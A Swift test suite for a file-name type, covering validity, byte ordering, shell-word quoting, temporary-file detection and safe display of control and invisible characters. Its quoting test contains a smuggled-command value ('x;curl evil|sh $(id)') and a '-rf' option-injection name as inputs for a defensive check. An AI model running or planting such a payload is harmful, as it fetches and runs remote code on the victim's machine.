import Files
import Support
import Testing
import Text

@Suite("File names")
struct NameTests {
  @Test(
    "What can't be one name in a folder is refused",
    arguments: ["", ".", "..", "a/b", "/", "a\0b", String(repeating: "n", count: 256)])
  func refused(text: String) { #expect(FileName(text) == nil) }

  @Test("Any other bytes are a name, UTF-8 or not")
  func accepted() throws {
    for bytes in [[0xFF, 0xFE], Array("línea\nnueva".utf8), [0x2E, 0x2E, 0x2E], [UInt8](repeating: 0x6E, count: 255)] {
      let name = try #require(FileName(bytes))
      #expect(Array(name.bytes) == bytes)
      #expect(name.count == bytes.count)
    }
    #expect(try #require(FileName([0xFF])).text == nil)
    #expect(("ñ" as FileName).text == "ñ")
  }

  @Test("Names are ordered by their bytes, unsigned, and the shorter first")
  func order() throws {
    let sorted: [[UInt8]] = [[0x41], [0x41, 0x01], [0x42], [0x61], [0x7F], [0xC3, 0xA1], [0xFF]]
    let names = try sorted.map { try #require(FileName($0)) }
    #expect(names.shuffled().sorted() == names)
  }

  @Test(
    "In a command that somebody may copy, a name is one word that does nothing",
    arguments: [
      ("a-1_b.yaml", "a-1_b.yaml"), ("-rf", "'./-rf'"), ("x;curl evil|sh $(id)", "'./x;curl evil|sh $(id)'"),
      ("l'eau", "'./l'\\''eau'"), ("mi forma.yaml", "'./mi forma.yaml'"), ("ñ", "'./ñ'"), ("a\\b", "'./a\\b'"),
      ("a\nb", "FILE"), ("\u{202E}x", "FILE"),
    ] as [(String, String)])
  func shellWord(text: String, word: String) throws {
    #expect(try #require(FileName(text)).shellWord == word)
    #expect(FileName([0x61, 0xFF])?.shellWord == "FILE")
  }

  @Test("Names that are equal as characters but not as bytes are two names")
  func normalization() {
    #expect("\u{E9}" as FileName != "e\u{301}" as FileName)
  }

  @Test(
    "Files on their way are left alone",
    arguments: [
      (".hidden.yaml", true), ("a.yaml~", true), ("a.tmp", true), ("a.part", true), ("a.yaml.swp", true),
      ("a.TMP", true), ("a.yaml.Part", true), ("a.bak", true), ("a.yaml.filepart", true), ("a.CrDownload", true),
      ("~$a.yaml", true), ("a.yaml", false), ("a.tmp.yaml", false), ("tmp", false), ("~a", false), ("abak", false),
      // Not a suffix: the accent is a byte of its own behind it.
      ("a~\u{301}", false),
    ])
  func leftAlone(text: String, expected: Bool) throws {
    #expect(try #require(FileName(text)).isLeftAlone == expected)
  }

  @Test("A name grows by a suffix as long as it stays a name")
  func suffix() throws {
    #expect(("a.yaml" as FileName).appending(".report")?.description == "a.yaml.report")
    #expect(try #require(FileName(String(repeating: "n", count: 250))).appending(".report") == nil)
  }
}

@Suite("Names and errors as people see them")
struct DisplayedTests {
  @Test(
    "Whatever moves the cursor, hides or is no UTF-8 is written out",
    arguments: [
      ("plain", Array("María.yaml".utf8), "María.yaml"),
      ("line end", Array("a\nb\rc".utf8), "a\\u{A}b\\u{D}c"),
      ("escape", Array("\u{1B}[2J".utf8), "\\u{1B}[2J"),
      ("C1 and DEL", Array("\u{9B}\u{7F}".utf8), "\\u{9B}\\u{7F}"),
      ("line separator", Array("\u{2028}".utf8), "\\u{2028}"),
      ("right to left", Array("\u{202E}lmay".utf8), "\\u{202E}lmay"),
      ("invisible", Array("a\u{200B}b\u{FEFF}".utf8), "a\\u{200B}b\\u{FEFF}"),
      ("backslash", Array("a\\n".utf8), "a\\\\n"),
      ("backslash with an accent", Array("\\\u{301}".utf8), "\\\\\u{301}"),
      ("Latin-1", [0x61, 0xF1, 0x62], "a\\xF1b"),
      ("overlong", [0xC0, 0xAF], "\\xC0\\xAF"),
      ("surrogate", [0xED, 0xA0, 0x80], "\\xED\\xA0\\x80"),
      ("cut short", [0xE2, 0x82], "\\xE2\\x82"),
      ("above Unicode", [0xF4, 0x90, 0x80, 0x80], "\\xF4\\x90\\x80\\x80"),
      ("four bytes", Array("😀".utf8), "😀"),
    ] as [(String, [UInt8], String)])
  func displays(name: String, bytes: [UInt8], expected: String) {
    #expect(Array(displayed(bytes).utf8) == Array(expected.utf8))
  }

  @Test("An error is one line with call, path and code")
  func error() throws {
    let scratch = try Scratch()
    #expect(throws: FileError(call: "open", path: "\(scratch.path)/no\\u{A}where", code: 2)) {
      try Directory("\(scratch.path)/no\nwhere")
    }
    #expect(
      "\(FileError(call: "open", path: "/x/y", code: 13))" == "cannot open /x/y: permission denied")
    #expect("\(FileError(call: "open", path: "/x", code: 4095))" == "cannot open /x: error 4095")
  }
}
